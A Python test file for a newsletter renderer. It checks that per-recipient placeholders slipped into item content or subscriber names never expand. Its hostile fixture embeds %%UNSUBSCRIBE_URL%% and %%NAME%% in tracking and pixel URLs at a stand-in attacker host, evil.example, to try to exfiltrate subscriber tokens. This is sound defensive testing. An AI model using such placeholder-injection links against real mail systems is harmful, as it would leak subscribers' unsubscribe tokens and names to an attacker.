"""Per-recipient placeholders are template-only: no content or subscriber value can spell one."""

from __future__ import annotations

import re
from dataclasses import replace

from publisher.deliver.backends.sendgrid import SendGridBackend
from publisher.deliver.base import Recipient
from publisher.render import PLACEHOLDERS, personalise, subscriber_url
from publisher.render.personalise import NAME, UNSUBSCRIBE_URL, neutralise
from tests.test_render import render_sample
from tests.test_render_fixtures import fixture_items, item

TOKEN = "tok-SECRET-0123456789"
EVIL = "https://evil.example"


def hostile_item():
    base = item(
        "hostile",
        days_ago=0.5,
        title="Free %%NAME%% and %%UNSUBSCRIBE_URL%% %%%PREFERENCES_URL%%%",
        summary="Read %%PREFERENCES_URL%% now",
    )
    return replace(
        base,
        url=f"{EVIL}/track?u=%%UNSUBSCRIBE_URL%%&n=%%NAME%%",
        image=f"{EVIL}/pixel.png?%%UNSUBSCRIBE_URL%%",
        author="%%NAME%%",
    )


def personalised(document: str) -> str:
    return personalise(
        document,
        name="Alice Recipient",
        unsubscribe_url=subscriber_url("https://www.example.org", "unsubscribe", TOKEN),
        preferences_url=subscriber_url("https://www.example.org", "preferences", TOKEN),
    )


def test_content_cannot_spell_a_live_placeholder(fixed_now):
    _clean_edition, clean = render_sample(fixed_now)
    _edition, rendered = render_sample(fixed_now, items=[*fixture_items(), hostile_item()])
    assert "evil.example" in rendered.html and "evil.example" in rendered.text
    for document, reference in ((rendered.html, clean.html), (rendered.text, clean.text)):
        # Exactly the template's own placeholders are live: none came with the item.
        for placeholder in PLACEHOLDERS:
            assert document.count(placeholder) == reference.count(placeholder), placeholder
        filled = personalised(document)
        assert filled.count(TOKEN) == personalised(reference).count(TOKEN)
        assert filled.count("Alice Recipient") == personalised(reference).count("Alice Recipient")
        for line in filled.splitlines():
            if "evil.example" in line and len(line) < 200:  # the text part's lines
                assert TOKEN not in line and "Alice Recipient" not in line, line
        links = re.findall(r'(?:href|src)="([^"]*)"', filled)
        assert [u for u in links if u.startswith(EVIL) and TOKEN in u] == []


def test_a_name_that_spells_a_placeholder_is_not_expanded():
    document = "Hello %%NAME%%, leave at %%UNSUBSCRIBE_URL%%"
    filled = personalise(
        document, name="%%UNSUBSCRIBE_URL%%", unsubscribe_url=TOKEN, preferences_url="p"
    )
    assert filled == f"Hello %%UNSUBSCRIBE_URL%%, leave at {TOKEN}"


def test_sendgrid_substitutions_cannot_carry_a_placeholder():
    recipient = Recipient(1, "a@example.org", "%%UNSUBSCRIBE_URL%%", TOKEN, "https://x.org")

    class Msg:
        mailto_prefix = "mailto:u@example.org?subject=unsubscribe-"
        edition_id = 1
        domain = "example.org"

    personalization = SendGridBackend.personalization(Msg(), recipient, "n")  # type: ignore[arg-type]
    for key, value in personalization["substitutions"].items():
        if key != UNSUBSCRIBE_URL and key != "%%PREFERENCES_URL%%":
            assert not any(p in value for p in PLACEHOLDERS), (key, value)
    assert NAME not in neutralise("%%%NAME%%%")
